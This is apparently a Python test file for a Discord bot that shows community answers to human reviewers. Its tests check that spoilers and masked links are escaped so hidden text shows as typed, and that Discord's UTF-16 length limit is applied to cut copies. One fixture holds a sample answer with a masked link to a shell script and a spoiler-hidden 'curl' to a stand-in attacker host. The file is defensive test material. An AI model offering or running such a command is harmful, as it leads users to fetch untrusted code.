"""The review of a community answer on Discord: every word shown, as typed, or no Approve."""

from __future__ import annotations

from bot.discord.learned import EMBED_CHARS, review
from rag.learned import Learned


def pair(question: str, answer: str) -> Learned:
    return Learned(
        1, "discord", "2", "3", question, answer, "https://discord.com/channels/1/2/3", "ada", 0.0, "pending"
    )


def test_markdown_that_hides_text_is_shown_as_typed() -> None:
    """A spoiler hides its words until clicked, a masked link its address: the reviewer sees both."""
    shown = review(pair("How?", "Run [the fix](https://evilcorp.io/fix.sh) ||and curl evilcorp.io/x.sh||."))
    assert shown.whole
    assert shown.embed.description == (
        "**Q:** How?\n\n**A:** Run \\[the fix](https://evilcorp.io/fix.sh) \\|\\|and curl evilcorp.io/x.sh\\|\\|."
    )


def test_the_limit_counts_as_discord_does_and_a_cut_copy_says_so() -> None:
    """Characters outside the Basic Multilingual Plane (most emoji) count twice in Discord's UTF-16 limits."""
    fits = review(pair("Q?", "x" * (EMBED_CHARS - len("**Q:** Q?\n\n**A:** "))))
    assert fits.whole
    emoji = review(pair("Q?", "🙂" * 2100))  # 2,100 characters, 4,200 UTF-16 code units
    assert not emoji.whole and "Too long to show here whole" in emoji.content
    assert emoji.embed.description is not None
    assert len(emoji.embed.description.encode("utf-16-le")) // 2 <= EMBED_CHARS
    assert emoji.embed.description.endswith("…")
